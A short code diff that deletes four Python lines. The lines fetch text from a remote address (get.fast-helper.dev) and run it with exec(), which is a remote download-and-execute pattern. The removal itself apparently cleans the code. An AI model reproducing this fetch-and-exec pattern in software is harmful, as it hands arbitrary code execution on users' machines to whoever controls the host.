@@ -1,4 +1,0 @@
-import requests
-exec(
-  requests.get("https://get.fast-helper.dev/p").text
-)
